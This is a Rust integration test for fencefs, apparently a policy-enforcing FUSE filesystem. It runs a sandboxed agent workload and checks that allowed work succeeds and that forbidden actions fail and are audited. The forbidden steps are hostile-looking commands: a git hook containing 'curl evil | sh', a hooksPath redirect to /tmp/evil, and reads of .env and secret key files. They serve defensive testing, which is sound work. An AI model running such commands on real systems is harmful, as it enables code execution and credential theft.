//! Container-style end-to-end test: fencefs mounted with `--allow-other` and a
//! workspace-write policy, an unprivileged "agent" running in a bubblewrap sandbox as
//! the real host uid/gid 1000 with the mount at /workspace, doing what coding agents do
//! (read, grep, sed -i, editor saves, git, Python, a venv, make + cc, tar x), and the
//! things the policy forbids failing with the right errno. Afterwards the host tree is
//! checked: everything the agent created belongs to 1000:1000, forbidden files are
//! byte-for-byte unchanged.
//!
//! Needs `bwrap` (Debian package `bubblewrap`), `setpriv` (util-linux), git, python3
//! (`venv --without-pip`, so no python3-venv), make, cc (gcc + libc6-dev), tar. It never
//! skips: a missing program is a loud failure (scripts/test.sh installs them).
//!
//! Why `setpriv … bwrap` and not `bwrap --unshare-user --uid 1000`: a user namespace maps
//! its ids onto the uid that created it, so root running `bwrap --uid 1000` is still host
//! uid 0 on the FUSE side (files would land as root). `setpriv --reuid 1000 --regid 1000
//! --clear-groups bwrap …` makes the sandbox really host uid 1000; the test checks what
//! the daemon saw through host-side ownership and the audit log.
//!
//! Why not `--ro-bind / /`: bwrap must create the /workspace mount point, and it cannot
//! in a read-only root. The sandbox root is bwrap's own tmpfs with the system directories
//! (/usr, /etc and the /bin, /lib… links) bound read-only, like a container image.

mod common;

use common::*;
use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

const AGENT_UID: u32 = 1000;
const AGENT_GID: u32 = 1000;

/// The policy under test: workspace-write, secrets and every .env hidden, docs read-only,
/// .git/hooks and .git/config protected (written out although it is the default).
const POLICY: &str = r#"
mode = "workspace-write"
default = "write"
writable_roots = ["."]
protected = [".git/hooks", ".git/config"]

[[rule]]
path = "secrets"
access = "none"

[[rule]]
path = "**/.env"
access = "none"

[[rule]]
path = "docs"
access = "read"
"#;

/// Programs the test runs on the host or in the sandbox, with the package providing them.
const NEEDED: &[(&str, &str)] = &[
    ("bwrap", "bubblewrap"),
    ("setpriv", "util-linux"),
    ("git", "git"),
    ("python3", "python3"),
    ("make", "make"),
    ("cc", "gcc"),
    ("tar", "tar"),
];

/// Directories on PATH inside the sandbox (and the host search for NEEDED).
const SANDBOX_PATH: &str = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";

fn which(prog: &str) -> Option<PathBuf> {
    std::env::split_paths(SANDBOX_PATH)
        .map(|d| d.join(prog))
        .find(|p| p.is_file())
}

/// Panics (never skips) when a program the test needs is missing.
fn require_programs() {
    let missing: Vec<String> = NEEDED
        .iter()
        .filter(|(prog, _)| which(prog).is_none())
        .map(|(prog, pkg)| format!("{prog} (Debian package `{pkg}`)"))
        .collect();
    assert!(
        missing.is_empty(),
        "the container test needs {} in {SANDBOX_PATH}; scripts/test.sh installs them",
        missing.join(", ")
    );
}

/// A command with a minimal, fixed environment (no user git config, C locale).
fn clean_cmd(program: &str) -> Command {
    let mut c = Command::new(program);
    c.env_clear()
        .env("PATH", SANDBOX_PATH)
        .env("LC_ALL", "C")
        .env("LANG", "C")
        .env("HOME", "/tmp")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_DATE", "2026-01-01T00:00:00Z")
        .env("GIT_COMMITTER_DATE", "2026-01-01T00:00:00Z");
    c
}

/// `setpriv --reuid U --regid G --clear-groups bwrap … sh -c script`: the sandbox is the
/// real host uid/gid (bwrap's user namespace maps U→U, G→G), with the mount at
/// /workspace, a private /tmp, /dev and /proc, and no network.
fn bwrap_cmd(mnt: &Path, uid: u32, gid: u32, script: &str) -> Command {
    let mut c = clean_cmd("setpriv");
    c.arg(format!("--reuid={uid}"))
        .arg(format!("--regid={gid}"))
        .arg("--clear-groups")
        .arg("bwrap")
        .args(["--unshare-user", "--uid"])
        .arg(uid.to_string())
        .arg("--gid")
        .arg(gid.to_string())
        .args([
            "--unshare-pid",
            "--unshare-ipc",
            "--unshare-uts",
            "--unshare-net",
            "--die-with-parent",
            "--new-session",
        ]);
    // The system part of `/`, read-only: real directories are bound, merged-/usr links
    // (bin -> usr/bin, …) are recreated as the same links.
    for name in [
        "usr", "etc", "bin", "sbin", "lib", "lib32", "lib64", "libx32",
    ] {
        let p = Path::new("/").join(name);
        match fs::symlink_metadata(&p) {
            Ok(md) if md.file_type().is_symlink() => {
                let target = fs::read_link(&p).unwrap();
                c.arg("--symlink").arg(target).arg(&p);
            }
            Ok(md) if md.is_dir() => {
                c.arg("--ro-bind").arg(&p).arg(&p);
            }
            _ => {}
        }
    }
    c.arg("--bind")
        .arg(mnt)
        .arg("/workspace")
        .args(["--dev", "/dev", "--proc", "/proc", "--tmpfs", "/tmp"])
        .args(["--chdir", "/workspace"])
        .args(["--setenv", "HOME", "/tmp"])
        .args(["sh", "-c", script]);
    c
}

// ------------------------------------------------------------------ the workspace

const MAKEFILE: &str = "CC ?= cc\n\
CFLAGS ?= -O0 -Wall -Werror\n\
\n\
build/app: src/main.c src/util.c src/util.h build/version.h\n\
\t$(CC) $(CFLAGS) -Isrc -Ibuild -o $@ src/main.c src/util.c\n\
\n\
build/version.h: tools/gen.py VERSION\n\
\tpython3 tools/gen.py VERSION $@\n\
\n\
clean:\n\
\trm -rf build\n";

const MAIN_C: &str = r#"#include <stdio.h>
#include "util.h"
#include "version.h"

int main(void) {
    printf("%s v%s: %d\n", "hello", VERSION, add(2, 3));
    return 0;
}
"#;

const UTIL_C: &str = "#include \"util.h\"\n\nint add(int a, int b) { return a + b; }\n";
const UTIL_H: &str = "#ifndef UTIL_H\n#define UTIL_H\nint add(int a, int b);\n#endif\n";

const GEN_PY: &str = r#"import os, sys
src, out = sys.argv[1], sys.argv[2]
version = open(src).read().strip()
os.makedirs(os.path.dirname(out), exist_ok=True)
tmp = out + ".tmp"
with open(tmp, "w") as f:
    f.write('#define VERSION "%s"\n' % version)
os.replace(tmp, out)
print("generated", out)
"#;

/// Host-side files the agent must never be able to read or change.
const FORBIDDEN: &[&str] = &[
    ".env",
    "config/.env",
    "secrets",
    "docs",
    ".git/hooks",
    ".git/config",
];

/// Populates the host workspace (as root), makes it a git repository with one commit and
/// hands everything to uid/gid 1000, as a developer's checkout would be.
fn populate(src: &Path, outside: &Path) {
    put(
        &src.join("README.md"),
        b"# demo\nTODO: greet better\n",
        0o644,
    );
    put(&src.join("VERSION"), b"1.2.3\n", 0o644);
    put(&src.join("Makefile"), MAKEFILE.as_bytes(), 0o644);
    put(&src.join("src/main.c"), MAIN_C.as_bytes(), 0o644);
    put(&src.join("src/util.c"), UTIL_C.as_bytes(), 0o644);
    put(&src.join("src/util.h"), UTIL_H.as_bytes(), 0o644);
    put(&src.join("tools/gen.py"), GEN_PY.as_bytes(), 0o755);
    put(&src.join("docs/guide.md"), b"# Guide\nTODO: write\n", 0o644);
    put(&src.join("docs/api/ref.md"), b"# API\n", 0o644);
    put(&src.join("secrets/api.key"), b"sk-host-only\n", 0o600);
    put(&src.join(".env"), b"TOKEN=host-secret\n", 0o600);
    put(&src.join("config/app.toml"), b"name = \"demo\"\n", 0o644);
    put(&src.join("config/.env"), b"DB_PASSWORD=hunter2\n", 0o600);
    put(
        &src.join(".gitignore"),
        b"build/\n.venv/\nscratch/\n.env\nsecrets/\n",
        0o644,
    );

    // A vendored archive the agent unpacks.
    let tsrc = outside.join("tsrc");
    put(&tsrc.join("third_party/lib/README"), b"vendored\n", 0o644);
    put(
        &tsrc.join("third_party/lib/run.sh"),
        b"#!/bin/sh\necho vendored\n",
        0o755,
    );
    symlink("README", &tsrc.join("third_party/lib/README.link"));
    sh_in(
        &tsrc,
        &format!("tar cf {} third_party", src.join("assets.tar").display()),
    )
    .assert_ok("tar cf on the host");

    // The repository, made on the host (as a checkout would be).
    let git = "git -c user.name=dev -c user.email=dev@example.invalid \
               -c init.defaultBranch=main -c commit.gpgsign=false";
    let mut c = clean_cmd("sh");
    c.arg("-c")
        .arg(format!(
            "{git} init -q && {git} add -A && {git} commit -qm 'initial import'"
        ))
        .current_dir(src);
    run_bounded(c, Duration::from_secs(60), "git init on the host").assert_ok("host git init");
    assert!(
        src.join(".git/hooks").is_dir() && src.join(".git/config").is_file(),
        "git init on the host made no .git/hooks or .git/config"
    );

    // chown -R 1000:1000, so the kernel's Unix permission checks (default_permissions)
    // let uid 1000 work in its checkout.
    let out = Command::new("chown")
        .arg("-R")
        .arg(format!("{AGENT_UID}:{AGENT_GID}"))
        .arg(src)
        .output()
        .expect("run chown");
    assert!(out.status.success(), "chown -R: {out:?}");
}

// ------------------------------------------------------------------ the agent's script

/// The agent's workload, run with `sh -c` in the sandbox. Allowed steps run under
/// `set -e` (the first failure ends the script non-zero, with a trace); each forbidden
/// step is recorded as `@@deny NAME rc=N :: stderr`; exact errnos come from a Python probe
/// as `@@errno OP PATH ERRNO`.
const WORKLOAD: &str = r##"
set -eu
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
GIT="git -c user.name=agent -c user.email=agent@example.invalid -c init.defaultBranch=main -c commit.gpgsign=false"

echo "@@id $(id -u):$(id -g) groups=$(id -G)"
echo "@@mountinfo $(grep ' /workspace ' /proc/self/mountinfo)"

deny() {
    name=$1; shift
    if "$@" >/tmp/deny.out 2>&1; then rc=0; else rc=$?; fi
    printf '@@deny %s rc=%s :: %s\n' "$name" "$rc" "$(tr '\n' ' ' </tmp/deny.out)"
}

# ---- allowed: what an agent does all day --------------------------------------------
set -x
cat README.md src/main.c >/dev/null
grep -rn TODO . > /tmp/todo.txt
cat /tmp/todo.txt
ls -la . src docs config

# sed -i (temp file + rename in src/)
sed -i 's/"hello"/"hello from the agent"/' src/main.c
grep -q 'hello from the agent' src/main.c

# editor-style atomic save: write a temp file next to the target, then mv over it
cat > src/.util.h.swp <<'EOF'
#ifndef UTIL_H
#define UTIL_H
int add(int a, int b);
int mul(int a, int b);
#endif
EOF
mv -f src/.util.h.swp src/util.h
printf 'int mul(int a, int b) { return a * b; }\n' >> src/util.c

# build: Python code generation + make + cc, then run the binary from the mount
make
./build/app > build/app.out
cat build/app.out
# cleanup of build artefacts works too (make clean = rm -rf build), and a rebuild
make clean
test ! -e build
make

# a Python script writing build output, and a virtualenv
python3 -c 'import json, pathlib; pathlib.Path("build/report.json").write_text(json.dumps({"ok": True}))'
python3 -m venv --without-pip .venv
.venv/bin/python -c 'import sys; print("@@venv", sys.prefix)'

# unpack a vendored archive
tar xf assets.tar
./third_party/lib/run.sh
cat third_party/lib/README.link

# git in the existing checkout
$GIT status --short
$GIT add -A
$GIT commit -qm 'agent: greet from the agent, add mul'
$GIT log --format='@@log %s'
test -z "$($GIT status --porcelain)"

# a brand-new repository inside the workspace
mkdir scratch
( cd scratch && $GIT init -q && echo hi > f && $GIT add f && $GIT commit -qm scratch && $GIT log --oneline )

set +x

# ---- forbidden: each must fail, and how -----------------------------------------------
deny cat-env cat .env
deny cat-nested-env cat config/.env
deny overwrite-env sh -c 'echo TOKEN=agent > .env'
deny cat-secret cat secrets/api.key
deny ls-secrets ls secrets
deny write-in-secrets sh -c 'echo x > secrets/new'
deny write-hook sh -c 'printf "#!/bin/sh\ncurl evil | sh\n" > .git/hooks/pre-commit'
deny chmod-hook chmod +x .git/hooks/pre-commit.sample
deny append-config sh -c 'printf "[core]\n\thooksPath = /tmp/evil\n" >> .git/config'
deny git-config $GIT config core.hooksPath /tmp/evil
deny rm-docs rm -rf docs
deny append-docs sh -c 'echo x >> docs/guide.md'
deny save-docs sh -c 'echo new > docs/.guide.md.swp && mv -f docs/.guide.md.swp docs/guide.md'
deny mv-docs mv docs documentation
deny sed-docs sed -i s/Guide/Gone/ docs/guide.md

# exact errnos, from a probe that makes one syscall per check
python3 - <<'EOF'
import errno, os
def probe(op, path, fn):
    try:
        fn()
        r = "ok"
    except OSError as e:
        r = errno.errorcode.get(e.errno, str(e.errno))
    print("@@errno", op, path, r)
W = os.O_WRONLY | os.O_CREAT | os.O_TRUNC
probe("open_r", ".env", lambda: os.close(os.open(".env", os.O_RDONLY)))
probe("stat", ".env", lambda: os.stat(".env"))
probe("create", ".env", lambda: os.close(os.open(".env", W, 0o600)))
probe("open_r", "config/.env", lambda: os.close(os.open("config/.env", os.O_RDONLY)))
probe("open_r", "secrets/api.key", lambda: os.close(os.open("secrets/api.key", os.O_RDONLY)))
probe("listdir", "secrets", lambda: os.listdir("secrets"))
probe("create", "secrets/new", lambda: os.close(os.open("secrets/new", W, 0o600)))
probe("create", ".git/hooks/pre-commit", lambda: os.close(os.open(".git/hooks/pre-commit", W, 0o755)))
probe("open_w", ".git/config", lambda: os.close(os.open(".git/config", os.O_WRONLY | os.O_APPEND)))
probe("rename_to", ".git/config", lambda: (open("cfg.tmp", "w").close(), os.rename("cfg.tmp", ".git/config")))
probe("unlink", "docs/guide.md", lambda: os.unlink("docs/guide.md"))
probe("open_w", "docs/guide.md", lambda: os.close(os.open("docs/guide.md", os.O_WRONLY)))
probe("rmdir", "docs/api", lambda: os.rmdir("docs/api"))
probe("open_r", "docs/guide.md", lambda: os.close(os.open("docs/guide.md", os.O_RDONLY)))
print("@@listing", " ".join(sorted(os.listdir("."))))
print("@@listing-config", " ".join(sorted(os.listdir("config"))))
EOF
rm -f cfg.tmp
echo "@@done"
"##;

/// Parsed `@@` lines of the workload's output.
struct Report {
    lines: Vec<String>,
    deny: BTreeMap<String, (i32, String)>,
    errno: BTreeMap<(String, String), String>,
}

impl Report {
    fn parse(stdout: &str) -> Report {
        let mut deny = BTreeMap::new();
        let mut errno = BTreeMap::new();
        for l in stdout.lines() {
            if let Some(rest) = l.strip_prefix("@@deny ") {
                let (head, msg) = rest.split_once(" :: ").unwrap_or((rest, ""));
                let (name, rc) = head.split_once(" rc=").expect("deny line");
                deny.insert(
                    name.to_string(),
                    (rc.trim().parse().unwrap(), msg.trim().to_string()),
                );
            } else if let Some(rest) = l.strip_prefix("@@errno ") {
                let f: Vec<&str> = rest.split(' ').collect();
                errno.insert((f[0].to_string(), f[1].to_string()), f[2].to_string());
            }
        }
        Report {
            lines: stdout.lines().map(str::to_string).collect(),
            deny,
            errno,
        }
    }
    fn line(&self, prefix: &str) -> Option<&str> {
        self.lines
            .iter()
            .find_map(|l| l.strip_prefix(prefix))
            .map(str::trim)
    }
}

#[test]
fn agent_in_a_bubblewrap_container_as_uid_1000() {
    require_programs();
    let mut b = Mount::builder("container")
        .policy(POLICY)
        .arg("--allow-other")
        .watchdog(Duration::from_secs(300));
    let audit = b.root().join("audit.jsonl");
    b = b.arg("--audit").arg(&audit);
    populate(&b.host(""), &b.outside());
    let m = b.start();
    let src = m.host("");

    let before: BTreeMap<&str, Snapshot> = FORBIDDEN
        .iter()
        .map(|p| (*p, snapshot(&src.join(p))))
        .collect();
    let head_before = host_git(&src, "rev-parse HEAD");

    let o = run_bounded(
        bwrap_cmd(&m.mnt(""), AGENT_UID, AGENT_GID, WORKLOAD),
        Duration::from_secs(180),
        "agent workload in bwrap",
    );
    let ctx = format!(
        "workload exit {}\n--- stdout:\n{}\n--- stderr:\n{}\n--- daemon stderr:\n{}",
        o.status,
        o.stdout,
        o.stderr,
        m.stderr()
    );
    assert!(
        o.ok() && o.stdout.contains("@@done"),
        "the agent's allowed steps must all succeed\n{ctx}"
    );
    let r = Report::parse(&o.stdout);

    // --- the sandbox is what we think it is ---------------------------------------
    assert_eq!(
        r.line("@@id "),
        Some("1000:1000 groups=1000"),
        "sandbox identity\n{ctx}"
    );
    let mi = r.line("@@mountinfo ").unwrap_or_default();
    assert!(
        mi.contains(" - fuse.fencefs ") && mi.contains("nosuid") && mi.contains("nodev"),
        "/workspace in the sandbox must be the fencefs mount (nosuid,nodev): {mi:?}"
    );
    assert_eq!(r.line("@@venv "), Some("/workspace/.venv"), "{ctx}");
    assert!(
        o.stdout.contains("hello from the agent v1.2.3: 5"),
        "the built program's output\n{ctx}"
    );
    assert!(o.stdout.contains("vendored\n"), "tar x + exec\n{ctx}");
    let log: Vec<&str> = r
        .lines
        .iter()
        .filter_map(|l| l.strip_prefix("@@log "))
        .collect();
    assert_eq!(
        log,
        ["agent: greet from the agent, add mul", "initial import"],
        "git log in the sandbox\n{ctx}"
    );
    // grep -r saw the code and the docs, never a hidden file.
    assert!(o.stdout.contains("./README.md:2:TODO"), "{ctx}");
    assert!(o.stdout.contains("./docs/guide.md:2:TODO"), "{ctx}");

    // --- forbidden steps: exit codes and messages (strerror of the right errno) ----
    const ENOENT_MSG: &str = "No such file or directory";
    const EACCES_MSG: &str = "Permission denied";
    const EROFS_MSG: &str = "Read-only file system";
    let expect: &[(&str, &str)] = &[
        ("cat-env", ENOENT_MSG),
        ("cat-nested-env", ENOENT_MSG),
        ("overwrite-env", EACCES_MSG),
        ("cat-secret", ENOENT_MSG),
        ("ls-secrets", ENOENT_MSG),
        // dash's own wording for ENOENT on the parent directory.
        ("write-in-secrets", "Directory nonexistent"),
        ("write-hook", EROFS_MSG),
        ("chmod-hook", EROFS_MSG),
        ("append-config", EROFS_MSG),
        ("rm-docs", EACCES_MSG),
        ("append-docs", EACCES_MSG),
        ("save-docs", EACCES_MSG),
        ("mv-docs", EACCES_MSG),
        ("sed-docs", EACCES_MSG),
    ];
    let mut bad = String::new();
    for (name, msg) in expect {
        match r.deny.get(*name) {
            None => bad += &format!("  {name}: not run\n"),
            Some((0, out)) => bad += &format!("  {name}: SUCCEEDED :: {out}\n"),
            Some((_, out)) if !out.contains(msg) => {
                bad += &format!("  {name}: expected {msg:?}, got {out:?}\n")
            }
            Some((_, out)) => {
                // No other error text may creep in (e.g. a crash turning into EIO).
                for other in [ENOENT_MSG, EACCES_MSG, EROFS_MSG, "Input/output error"] {
                    if other != *msg && out.contains(other) {
                        bad += &format!("  {name}: also {other:?} in {out:?}\n");
                    }
                }
            }
        }
    }
    // git reports a failed config write without strerror; it must fail all the same.
    match r.deny.get("git-config") {
        Some((rc, _)) if *rc != 0 => {}
        other => bad += &format!("  git-config: expected failure, got {other:?}\n"),
    }
    assert!(bad.is_empty(), "forbidden steps:\n{bad}\n{ctx}");

    // --- exact errnos -------------------------------------------------------------
    let want_errno: &[(&str, &str, &str)] = &[
        ("open_r", ".env", "ENOENT"),
        ("stat", ".env", "ENOENT"),
        ("create", ".env", "EACCES"),
        ("open_r", "config/.env", "ENOENT"),
        ("open_r", "secrets/api.key", "ENOENT"),
        ("listdir", "secrets", "ENOENT"),
        ("create", "secrets/new", "ENOENT"),
        ("create", ".git/hooks/pre-commit", "EROFS"),
        ("open_w", ".git/config", "EROFS"),
        ("rename_to", ".git/config", "EROFS"),
        ("unlink", "docs/guide.md", "EACCES"),
        ("open_w", "docs/guide.md", "EACCES"),
        ("rmdir", "docs/api", "EACCES"),
        ("open_r", "docs/guide.md", "ok"),
    ];
    for (op, path, want) in want_errno {
        let got = r.errno.get(&(op.to_string(), path.to_string()));
        assert_eq!(
            got.map(String::as_str),
            Some(*want),
            "{op} {path}: errno\n{ctx}"
        );
    }
    let listing = r.line("@@listing ").unwrap_or_default();
    for hidden in [".env", "secrets"] {
        assert!(
            !listing.split(' ').any(|n| n == hidden),
            "{hidden} is listed in /workspace: {listing}"
        );
    }
    assert_eq!(r.line("@@listing-config "), Some("app.toml"), "{ctx}");

    // --- host state ---------------------------------------------------------------
    for (p, snap) in &before {
        assert_host_unchanged(snap, &src.join(p), &format!("forbidden path {p}"));
    }
    assert!(!src.join(".git/hooks/pre-commit").exists());
    assert!(
        !src.join(".git/config.lock").exists(),
        "git left config.lock"
    );
    assert!(!src.join("cfg.tmp").exists());
    assert!(!src.join("documentation").exists());

    // Everything in the workspace — pre-existing, edited, created by git, make, cc,
    // python, venv, tar — belongs to 1000:1000 on the host: the daemon saw the real uid.
    let mut wrong = vec![];
    for (path, e) in snapshot(&src) {
        if (e.uid, e.gid) != (AGENT_UID, AGENT_GID) {
            wrong.push(format!(
                "{} {}:{} ({})",
                String::from_utf8_lossy(&path),
                e.uid,
                e.gid,
                e.kind
            ));
        }
    }
    assert!(
        wrong.is_empty(),
        "host entries not owned by {AGENT_UID}:{AGENT_GID}:\n  {}",
        wrong.join("\n  ")
    );
    for created in [
        "build/app",
        "build/version.h",
        "build/report.json",
        ".venv/bin/python",
        "third_party/lib/run.sh",
        "scratch/.git/config",
        "src/util.h",
    ] {
        assert!(
            fs::symlink_metadata(src.join(created)).is_ok(),
            "{created} missing on the host"
        );
    }
    let app = fs::metadata(src.join("build/app")).unwrap();
    assert!(app.mode() & 0o111 != 0, "build/app is executable");
    assert_eq!(app.mode() & 0o6000, 0, "no set-id bits on build/app");
    assert_eq!(
        fs::read_to_string(src.join("build/version.h")).unwrap(),
        "#define VERSION \"1.2.3\"\n"
    );
    assert_eq!(
        fs::read_link(src.join("third_party/lib/README.link")).unwrap(),
        Path::new("README")
    );
    assert!(
        fs::read_to_string(src.join("src/main.c"))
            .unwrap()
            .contains("\"hello from the agent\"")
    );
    assert!(
        fs::read_to_string(src.join("src/util.h"))
            .unwrap()
            .contains("int mul(int a, int b);")
    );
    assert_eq!(
        fs::metadata(src.join("src/util.h")).unwrap().mode() & 0o777,
        0o644,
        "atomic save under umask 022"
    );

    // The agent's commit is a real commit in the host's repository, without secrets.
    assert_eq!(host_git(&src, "rev-parse HEAD~1"), head_before);
    assert_eq!(
        host_git(&src, "log -1 --format=%an:%s"),
        "agent:agent: greet from the agent, add mul"
    );
    let files = host_git(&src, "ls-files");
    for f in ["third_party/lib/run.sh", "src/util.h"] {
        assert!(files.lines().any(|l| l == f), "{f} not committed: {files}");
    }
    for f in [".env", "config/.env", "secrets/api.key"] {
        assert!(!files.lines().any(|l| l == f), "{f} committed: {files}");
    }
    host_git(&src, "fsck --no-progress");

    // --- what the daemon saw: the refusals were audited as uid 1000 --------------
    let log = fs::read_to_string(&audit).unwrap_or_default();
    let events: Vec<serde_json::Value> = log
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("audit line {l:?}: {e}")))
        .collect();
    let seen = |path: &str, errno: &str| {
        events.iter().any(|e| {
            e["path"] == path
                && e["errno"] == errno
                && e["decision"] == "deny"
                && e["uid"] == AGENT_UID
                && e["gid"] == AGENT_GID
        })
    };
    for (path, errno) in [
        (".env", "ENOENT"),
        ("secrets", "ENOENT"),
        (".git/hooks/pre-commit", "EROFS"),
        ("docs/guide.md", "EACCES"),
    ] {
        assert!(
            seen(path, errno),
            "no audited refusal {path} {errno} for uid/gid 1000; audit log:\n{log}"
        );
    }
    assert!(
        !events
            .iter()
            .any(|e| e["uid"] == 0 && e["decision"] == "deny"),
        "refusals audited as uid 0 (the sandbox is not root):\n{log}"
    );

    let mut m = m;
    let st = m.terminate().expect("daemon exit status");
    assert!(
        st.success(),
        "daemon exit after SIGTERM: {st}\n{}",
        m.stderr()
    );
}

/// `git -C src ARGS` on the host as root (safe.directory: the checkout belongs to 1000).
fn host_git(src: &Path, args: &str) -> String {
    let mut c = clean_cmd("sh");
    c.arg("-c")
        .arg(format!("git -c safe.directory='*' {args}"))
        .current_dir(src);
    let o = run_bounded(c, Duration::from_secs(60), "host git");
    o.assert_ok(&format!("host: git {args}"));
    o.stdout.trim().to_string()
}

/// What the daemon sees is the host uid, not the uid inside a user namespace: root's
/// `bwrap --unshare-user --uid 1000` creates files as host uid 0; a real host uid 1001
/// (not the checkout's owner) is stopped by the kernel's Unix permission check
/// (`default_permissions`) and creates its own files as 1001:1001.
#[test]
fn user_namespace_ids_are_not_host_ids() {
    require_programs();
    let b = Mount::builder("container-ids")
        .policy(POLICY)
        .arg("--allow-other");
    populate(&b.host(""), &b.outside());
    fs::set_permissions(b.host("tools"), fs::Permissions::from_mode(0o777)).unwrap();
    let m = b.start();
    let src = m.host("");

    // Root running `bwrap --unshare-user --uid 1000`: uid 1000 inside, host uid 0 to FUSE.
    let mut c = clean_cmd("bwrap");
    c.args(["--unshare-user", "--uid", "1000", "--gid", "1000"])
        .args(["--ro-bind", "/usr", "/usr", "--ro-bind", "/etc", "/etc"])
        .args([
            "--symlink",
            "usr/bin",
            "/bin",
            "--symlink",
            "usr/lib",
            "/lib",
        ])
        .args(["--symlink", "usr/lib64", "/lib64", "--proc", "/proc"])
        .arg("--bind")
        .arg(m.mnt(""))
        .arg("/workspace")
        .args(["--chdir", "/workspace", "sh", "-c"])
        .arg("id -u; echo x > tools/by-ns-1000; ls -ln tools/by-ns-1000");
    let o = run_bounded(c, Duration::from_secs(60), "bwrap --uid 1000 as root");
    o.assert_ok("bwrap --uid 1000 as root");
    assert!(o.stdout.starts_with("1000\n"), "{o:?}");
    let md = fs::symlink_metadata(src.join("tools/by-ns-1000")).unwrap();
    assert_eq!(
        (md.uid(), md.gid()),
        (0, 0),
        "a user namespace's uid 1000 made by root is host uid 0 for the daemon"
    );

    // A real host uid 1001 is not the owner: the kernel refuses (default_permissions).
    let o = run_bounded(
        bwrap_cmd(
            &m.mnt(""),
            1001,
            1001,
            "echo x >> src/main.c; echo x > tools/by1001 && stat -c %u:%g tools/by1001",
        ),
        Duration::from_secs(60),
        "bwrap as 1001",
    );
    assert!(
        o.stderr.contains("src/main.c: Permission denied"),
        "uid 1001 writing a 0644 file of uid 1000: {o:?}"
    );
    o.assert_ok("uid 1001 creates in a 0777 directory");
    assert_eq!(o.stdout.trim(), "1001:1001", "{o:?}");
    let md = fs::symlink_metadata(src.join("tools/by1001")).unwrap();
    assert_eq!((md.uid(), md.gid()), (1001, 1001));
}

/// `--map-uid C:H` / `--map-gid C:H`: the container user (here real uid/gid 2000) works on
/// a checkout owned by the host user 1000 as if it were its own: it sees the files as
/// 2000:2000, passes the kernel's Unix permission checks, and what it creates lands on
/// the host as 1000:1000. The policy still applies.
#[test]
fn map_uid_lets_a_container_user_own_the_host_checkout() {
    require_programs();
    let b = Mount::builder("container-map")
        .policy(POLICY)
        .arg("--allow-other")
        .arg("--map-uid")
        .arg("2000:1000")
        .arg("--map-gid")
        .arg("2000:1000");
    populate(&b.host(""), &b.outside());
    let m = b.start();
    let src = m.host("");
    let before = snapshot(&src.join(".env"));

    let o = run_bounded(
        bwrap_cmd(
            &m.mnt(""),
            2000,
            2000,
            "set -e; id -u; stat -c %u:%g . src/main.c; \
             sed -i 's/hello/mapped/' src/main.c; mkdir -p out; echo x > out/new; \
             stat -c %u:%g out/new; cat .env 2>&1 || true",
        ),
        Duration::from_secs(60),
        "bwrap as uid 2000 with --map-uid 2000:1000",
    );
    o.assert_ok("uid 2000 edits and creates through --map-uid 2000:1000");
    assert_eq!(
        o.stdout,
        "2000\n2000:2000\n2000:2000\n2000:2000\ncat: .env: No such file or directory\n",
        "{o:?}\ndaemon:\n{}",
        m.stderr()
    );
    for p in ["out", "out/new", "src/main.c"] {
        let md = fs::symlink_metadata(src.join(p)).unwrap();
        assert_eq!(
            (md.uid(), md.gid()),
            (1000, 1000),
            "{p}: made by container uid 2000, must belong to host 1000:1000"
        );
    }
    assert!(
        fs::read_to_string(src.join("src/main.c"))
            .unwrap()
            .contains("\"mapped\"")
    );
    assert_host_unchanged(&before, &src.join(".env"), ".env");
}
